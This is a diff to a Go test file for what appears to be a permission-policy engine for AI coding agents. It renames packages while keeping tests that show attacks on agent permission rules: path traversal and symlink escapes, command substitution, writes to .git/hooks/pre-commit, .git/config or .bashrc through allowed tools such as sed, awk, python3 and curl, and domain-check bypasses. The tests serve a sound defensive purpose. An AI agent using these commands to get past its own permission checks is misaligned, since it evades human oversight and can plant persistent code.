@@ -1,4 +1,4 @@
-package policy_test
+package rules_test
 
 import (
 	"context"
@@ -11,6 +11,7 @@ import (
 	"testing"
 
 	"github.com/reins-agent/reins/policy"
+	"github.com/reins-agent/reins/policy/rules"
 )
 
 // Each test shows that an attack works against a check that others have used, or without a check, and that the policy
@@ -47,19 +48,19 @@ func pwned(t *testing.T, line string) bool {
 // attackRules allow what developers usually allow.
 func attackRules(t *testing.T) policy.Policy {
 	t.Helper()
-	return policy.Standard{Rules: policy.Rules{Allow: rules(t, "Bash(ls:*)", "Bash(echo:*)", "Bash(npm test:*)")}}
+	return rules.Policy{Allow: list(t, "Bash(ls:*)", "Bash(echo:*)", "Bash(npm test:*)")}
 }
 
-func rules(t *testing.T, texts ...string) (list []policy.Rule) {
+func list(t *testing.T, texts ...string) (parsed []rules.Rule) {
 	t.Helper()
 	for _, s := range texts {
-		r, err := policy.ParseRule(s)
+		r, err := rules.Parse(s)
 		if err != nil {
 			t.Fatal(err)
 		}
-		list = append(list, r)
+		parsed = append(parsed, r)
 	}
-	return list
+	return parsed
 }
 
 func testLines(t *testing.T, lines []string) {
@@ -114,7 +115,7 @@ func TestAttack_PrefixPathCheck(t *testing.T) {
 		{Tool: "read_file", Workspace: p.workspace, Accesses: []policy.Access{{Kind: policy.Read, Target: file}}},
 		p.query(policy.ModeDefault, "cat "+file), p.query(policy.ModeDefault, "cat ../repo-evil/secret"), p.query(policy.ModeDefault, "cd ../repo-evil && cat secret"),
 	} {
-		if d := (policy.Default{}).Decide(t.Context(), q); d.Verdict != policy.Ask {
+		if d := (rules.Policy{}).Decide(t.Context(), q); d.Verdict != policy.Ask {
 			t.Errorf("%v: got %v, want ask", q.Accesses, d.Verdict)
 		}
 	}
@@ -128,7 +129,7 @@ func TestAttack_WorkingDirectoryThatTheModelChooses(t *testing.T) {
 	if b, err := cmd.Output(); err != nil || string(b) != "secret" {
 		t.Fatalf("the attack does not work: %q (%v)", b, err)
 	}
-	allow := policy.Standard{Rules: policy.Rules{Allow: rules(t, "Bash(npm test:*)")}}
+	allow := rules.Policy{Allow: list(t, "Bash(npm test:*)")}
 	for _, dir := range []string{out, "/", filepath.Join(p.dir, "link_out"), filepath.Join(p.dir, "..")} {
 		for _, command := range []string{"cat secret.txt", "ls", "npm test"} {
 			q := p.query(policy.ModeDefault, command)
@@ -150,11 +151,11 @@ func TestAttack_OwnConfigurationUnderAnotherName(t *testing.T) {
 		}
 		for _, mode := range policy.Modes {
 			q := policy.Query{Tool: "write_file", Mode: mode, Workspace: p.workspace, Accesses: []policy.Access{{Kind: policy.Write, Target: file}}}
-			if d := (policy.Standard{Rules: policy.Rules{Allow: rules(t, "Edit", "Bash(echo:*)")}}).Decide(t.Context(), q); d.Verdict != policy.Deny {
+			if d := (rules.Policy{Allow: list(t, "Edit", "Bash(echo:*)")}).Decide(t.Context(), q); d.Verdict != policy.Deny {
 				t.Errorf("%s, mode %s: got %v (%s), want deny", name, mode, d.Verdict, d.Reason)
 			}
 			command := p.query(mode, "echo x > '"+name+"'")
-			if d := (policy.Standard{Rules: policy.Rules{Allow: rules(t, "Edit", "Bash(echo:*)")}}).Decide(t.Context(), command); d.Verdict == policy.Allow {
+			if d := (rules.Policy{Allow: list(t, "Edit", "Bash(echo:*)")}).Decide(t.Context(), command); d.Verdict == policy.Allow {
 				t.Errorf("echo x > %s, mode %s: allowed", name, mode)
 			}
 		}
@@ -178,7 +179,7 @@ func TestAttack_ProtectedFileThatDoesNotExistYet(t *testing.T) {
 		}
 		for _, mode := range policy.Modes {
 			for _, command := range []string{"echo x > " + name, "tee " + name + " < README.md", "cp README.md " + name, "mkdir -p " + name, "touch " + name, "sort -o " + name + " data.txt", "ln -s ../README.md " + name} {
-				if d := (policy.Default{}).Decide(t.Context(), p.query(mode, command)); d.Verdict != policy.Deny {
+				if d := (rules.Policy{}).Decide(t.Context(), p.query(mode, command)); d.Verdict != policy.Deny {
 					t.Errorf("%s, mode %s: got %v (%s), want deny", command, mode, d.Verdict, d.Reason)
 				}
 			}
@@ -196,7 +197,7 @@ func TestAttack_ProtectedPathsHoldInEveryMode(t *testing.T) {
 		for _, mode := range policy.Modes {
 			q := p.query(mode, l.command)
 			q.Workspace.Sandboxed = true
-			everything := policy.Standard{Rules: policy.Rules{Allow: rules(t, "Bash", "Edit", "Read")}}
+			everything := rules.Policy{Allow: list(t, "Bash", "Edit", "Read")}
 			if d := everything.Decide(t.Context(), q); d.Verdict != policy.Deny {
 				t.Errorf("%s, mode %s: got %v (%s), want deny", l.command, mode, d.Verdict, d.Reason)
 			}
@@ -215,7 +216,7 @@ func TestAttack_SymbolicLinks(t *testing.T) {
 	if b, err := exec.Command("bash", "-c", `cd "$0/src/up" && cat ../secret.txt`, p.dir).Output(); err != nil || string(b) != "secret" {
 		t.Fatalf("the parent of a link does not lead outside: %q (%v)", b, err)
 	}
-	deny := policy.Standard{Rules: policy.Rules{Deny: rules(t, "Read(.env)", "Edit(vendor/**)")}}
+	deny := rules.Policy{Deny: list(t, "Read(.env)", "Edit(vendor/**)")}
 	for command, want := range map[string]policy.Verdict{
 		"cat link_out/secret.txt": policy.Ask, "cat link_out/*": policy.Ask, "grep -R secret .": policy.Deny, "grep -R secret docs link_out": policy.Ask, "cd link_out && cat secret.txt": policy.Ask, "cd src/up && cat ../secret.txt": policy.Ask,
 		"cat src/up/../secret.txt": policy.Ask, "cat envlink": policy.Deny, "cat src/up/.env": policy.Deny, "cat e*link": policy.Deny, "echo x > link_out/new": policy.Ask, "echo x > hook": policy.Deny, "echo x > gitdir/new": policy.Deny,
@@ -247,14 +248,14 @@ func TestAttack_NamesThatSplitIntoOtherPaths(t *testing.T) {
 		t.Fatalf("the attack does not work: %q", b)
 	}
 	for _, command := range []string{"cat $(find docs -name secret.txt)", "find docs -type d | xargs cat", "for f in $(find docs); do cat $f; done", "git ls-files | xargs cat"} {
-		if d := (policy.Default{}).Decide(t.Context(), p.query(policy.ModeDefault, command)); d.Verdict != policy.Ask {
+		if d := (rules.Policy{}).Decide(t.Context(), p.query(policy.ModeDefault, command)); d.Verdict != policy.Ask {
 			t.Errorf("%s: got %v (%s), want ask", command, d.Verdict, d.Reason)
 		}
 	}
 }
 
 func TestAttack_DomainCheck(t *testing.T) {
-	allow := policy.Standard{Rules: policy.Rules{Allow: rules(t, "WebFetch(domain:example.com)", "WebFetch(domain:*.example.org)"), Deny: rules(t, "WebFetch(domain:evil.example.org)")}}
+	allow := rules.Policy{Allow: list(t, "WebFetch(domain:example.com)", "WebFetch(domain:*.example.org)"), Deny: list(t, "WebFetch(domain:evil.example.org)")}
 	decide := func(target string) policy.Verdict {
 		return allow.Decide(context.Background(), policy.Query{Tool: "web_fetch", Accesses: []policy.Access{{Kind: policy.Connect, Target: target}}}).Verdict
 	}
@@ -285,12 +286,12 @@ func TestAttack_DomainCheck(t *testing.T) {
 func TestAttack_BypassModeIgnoresTheListOfTools(t *testing.T) {
 	p := newPlace(t)
 	run := p.query(policy.ModeBypass, "make")
-	if d := (policy.Default{}).Decide(t.Context(), run); d.Verdict != policy.Allow {
+	if d := (rules.Policy{}).Decide(t.Context(), run); d.Verdict != policy.Allow {
 		t.Fatalf("bypass mode alone does not allow commands: %v", d.Verdict)
 	}
 	for name, q := range map[string]policy.Policy{
-		"only listed tools": policy.All(policy.Only("read_file"), policy.Default{}), "all but listed tools": policy.All(policy.Except("shell"), policy.Default{}), "read only": policy.All(policy.ReadOnly(), policy.Default{}),
-		"a deny rule for the tool": policy.Standard{Rules: policy.Rules{Deny: rules(t, "shell")}}, "a deny rule for commands": policy.Standard{Rules: policy.Rules{Deny: rules(t, "Bash")}}, "a deny rule for the command": policy.Standard{Rules: policy.Rules{Deny: rules(t, "Bash(make:*)"), Allow: rules(t, "Bash")}},
+		"only listed tools": policy.All(policy.Only("read_file"), rules.Policy{}), "all but listed tools": policy.All(policy.Except("shell"), rules.Policy{}), "read only": policy.All(rules.ReadOnly(), rules.Policy{}),
+		"a deny rule for the tool": rules.Policy{Deny: list(t, "shell")}, "a deny rule for commands": rules.Policy{Deny: list(t, "Bash")}, "a deny rule for the command": rules.Policy{Deny: list(t, "Bash(make:*)"), Allow: list(t, "Bash")},
 	} {
 		if d := q.Decide(t.Context(), run); d.Verdict != policy.Deny {
 			t.Errorf("%s: got %v (%s), want deny", name, d.Verdict, d.Reason)
@@ -300,7 +301,7 @@ func TestAttack_BypassModeIgnoresTheListOfTools(t *testing.T) {
 
 func TestAttack_ProtectedPathInsideAProgramThatARuleAllows(t *testing.T) {
 	p := newPlace(t)
-	allow := policy.Standard{Rules: policy.Rules{Allow: rules(t, "Bash(sed:*)", "Bash(awk:*)", "Bash(python3:*)", "Bash(node:*)", "Bash(tar:*)", "Bash(curl:*)")}}
+	allow := rules.Policy{Allow: list(t, "Bash(sed:*)", "Bash(awk:*)", "Bash(python3:*)", "Bash(node:*)", "Bash(tar:*)", "Bash(curl:*)")}
 	for _, command := range []string{
 		"sed -n 'w .git/hooks/pre-commit' README.md", "sed -n 's/x/y/w.git/hooks/pre-commit' README.md", `awk '{ print > ".git/hooks/pre-commit" }' README.md`, `python3 -c "open('.git/hooks/pre-commit', 'w')"`,
 		`node -e 'fs.writeFileSync(".git/config", "x")'`, "tar xf x.tar -C .git/hooks", "curl -o .git/hooks/pre-commit http://example.com", "curl -o.bashrc http://example.com", "curl --output=.git/config http://example.com",
@@ -333,12 +334,12 @@ func TestAttack_NamesThatBecomeOtherPaths(t *testing.T) {
 			t.Fatal(err)
 		}
 		for _, line := range lines {
-			if d := (policy.Default{}).Decide(t.Context(), p.query(policy.ModeDefault, line)); d.Verdict != policy.Ask {
+			if d := (rules.Policy{}).Decide(t.Context(), p.query(policy.ModeDefault, line)); d.Verdict != policy.Ask {
 				t.Errorf("%s with a directory %q: got %v (%s), want ask", line, dir, d.Verdict, d.Reason)
 			}
 		}
 		for _, line := range []string{"find . -type f -print0 | xargs -0 cat", "cat README.md"} {
-			if d := (policy.Default{}).Decide(t.Context(), p.query(policy.ModeDefault, line)); d.Verdict != policy.Allow {
+			if d := (rules.Policy{}).Decide(t.Context(), p.query(policy.ModeDefault, line)); d.Verdict != policy.Allow {
 				t.Errorf("%s with a directory %q: got %v (%s), want allow", line, dir, d.Verdict, d.Reason)
 			}
 		}
